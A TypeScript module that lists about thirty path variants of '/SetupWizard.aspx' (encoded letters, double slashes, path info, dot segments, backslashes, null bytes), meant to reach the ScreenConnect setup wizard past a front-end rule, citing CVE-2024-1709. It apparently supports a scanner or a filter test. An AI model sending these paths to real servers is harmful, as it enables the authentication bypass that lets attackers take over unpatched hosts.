/** One way of writing the path of the setup wizard. */
export interface WizardVariant {
  readonly variant: string
  /** Sent byte for byte. */
  readonly path: string
}

/**
 * Ways of writing `/SetupWizard.aspx` that a server may take for the same page while a rule in front of it does not.
 * Sources: CVE-2024-1709 (path info; reference screenconnect.md, section 7.1, W1, W2, W4), the tricks measured against
 * a proxy (reference gateway.md, section 6.1), and what IIS and ASP.NET are known to accept: `%u` encoding, a blank or
 * dot at the end, a session segment without cookies. Whether ScreenConnect on http.sys accepts the last ones is unverified.
 */
export const wizardVariants: readonly WizardVariant[] = [
  { variant: 'plain', path: '/SetupWizard.aspx' },
  { variant: 'trailing-slash', path: '/SetupWizard.aspx/' },
  { variant: 'path-info', path: '/SetupWizard.aspx/x' },
  { variant: 'path-info-page', path: '/SetupWizard.aspx/Login.aspx' },
  { variant: 'double-slash', path: '//SetupWizard.aspx' },
  { variant: 'double-slash-path-info', path: '//SetupWizard.aspx/' },
  { variant: 'lower-case', path: '/setupwizard.aspx' },
  { variant: 'mixed-case-path-info', path: '/sETUPwIZARD.ASPX/x' },
  { variant: 'no-extension', path: '/SetupWizard' },
  { variant: 'no-extension-slash', path: '/SetupWizard/' },
  { variant: 'encoded-letter', path: '/%53etupWizard.aspx' },
  { variant: 'encoded-letter-path-info', path: '/%53etupWizard.aspx/x' },
  { variant: 'encoded-extension', path: '/SetupWizard%2easpx/x' },
  { variant: 'encoded-slash', path: '/SetupWizard.aspx%2fx' },
  { variant: 'double-encoded', path: '/%2553etupWizard.aspx' },
  { variant: 'double-encoded-path-info', path: '/%2553etupWizard.aspx/x' },
  { variant: 'unicode-encoded', path: '/%u0053etupWizard.aspx/x' },
  { variant: 'dot-segment', path: '/./SetupWizard.aspx/' },
  { variant: 'dot-dot-segment', path: '/x/../SetupWizard.aspx/' },
  { variant: 'encoded-dot-segment', path: '/x/%2e%2e/SetupWizard.aspx/' },
  { variant: 'backslash', path: '/\\SetupWizard.aspx/' },
  { variant: 'backslash-dot-dot', path: '/x\\..\\SetupWizard.aspx\\' },
  { variant: 'encoded-backslash', path: '/%5cSetupWizard.aspx/' },
  { variant: 'parameter', path: '/SetupWizard.aspx;x=1/y' },
  { variant: 'parameter-segment', path: '/;a/SetupWizard.aspx/' },
  { variant: 'session-segment', path: '/(S(x))/SetupWizard.aspx/' },
  { variant: 'trailing-dot', path: '/SetupWizard.aspx./' },
  { variant: 'trailing-blank', path: '/SetupWizard.aspx%20/' },
  { variant: 'null-byte', path: '/SetupWizard.aspx%00/' },
  { variant: 'query', path: '/SetupWizard.aspx/?x=/Login.aspx' },
]
